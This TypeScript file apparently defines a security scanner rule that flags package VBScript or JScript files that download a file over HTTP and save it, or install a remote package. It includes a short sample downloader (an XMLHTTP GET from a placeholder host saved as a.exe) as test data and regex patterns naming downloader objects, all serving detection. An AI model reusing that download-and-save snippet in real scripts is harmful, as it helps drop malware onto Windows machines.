import { findStartedPayloads } from '../../execution/reach.js';
import type { Evidence } from '../../facts/evidence.js';
import type { Facts } from '../facts.js';
import type { Rule } from '../rule.js';

const DOWNLOADS =
  'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://files.invalid/a", False\nSet s = CreateObject("ADODB.Stream")\ns.SaveToFile "a.exe"';

export const scriptDownload: Rule = {
  id: 'script-download',
  title: 'A VBScript or JScript in the package downloads a file or installs a remote package',
  severity: 'medium',
  explanation:
    'A script that the package runs fetches something with a Windows HTTP object and saves it, or makes Windows Installer install a package from a URL. Downloaders of banking trojans are written this way. Installers include their files, and vendors download with programs.',
  attack: ['T1059.005', 'T1059.007', 'T1105'],
  references: ['MITRE ATT&CK: T1105 Ingress Tool Transfer'],
  match: matchScripts,
  examples: [
    {
      what: 'an HTTP object and a saved stream',
      runs: ['wscript a.vbs'],
      holds: [{ name: 'a.vbs', type: 'vbscript', script: { type: 'vbscript', text: DOWNLOADS } }],
    },
  ],
  counterExamples: [
    {
      what: 'the same script when nothing runs it',
      holds: [{ name: 'a.vbs', type: 'vbscript', script: { type: 'vbscript', text: DOWNLOADS } }],
    },
    {
      what: 'a script that only queries a server',
      runs: ['wscript a.vbs'],
      holds: [
        {
          name: 'a.vbs',
          type: 'vbscript',
          script: { type: 'vbscript', text: 'CreateObject("MSXML2.XMLHTTP").Send' },
        },
      ],
    },
  ],
};

const ASKS = /\b(?:msxml2?|microsoft)\.(?:server)?xmlhttp|\bwinhttp\.winhttprequest\b/i;
const SAVES = /\badodb\.stream\b|\.savetofile\b|\.responsebody\b/i;
const INSTALLS = /\.installproduct\b[^\n]{0,256}\bhttps?:|\burldownloadtofile\b/i;
const TEXT_LENGTH = 65_536;

function* matchScripts(facts: Facts): Generator<Evidence> {
  const started = findStartedPayloads(facts.execution.commands, facts);
  for (const { facts: payloadFacts, id, path } of facts.payloads) {
    const { script } = payloadFacts;
    if (script === undefined || !started.has(id) || !LANGUAGES.has(script.type)) continue;
    const text = (script.text ?? '').slice(0, TEXT_LENGTH);
    const found = INSTALLS.exec(text) ?? (SAVES.test(text) ? ASKS.exec(text) : null);
    if (found === null) continue;
    const line = text.slice(0, found.index).split('\n').length;
    yield { payload: id, location: `${path} line ${line}`, text: `uses ${found[0]}` };
  }
}

const LANGUAGES: ReadonlySet<string> = new Set(['vbscript', 'jscript', 'wsf', 'hta']);
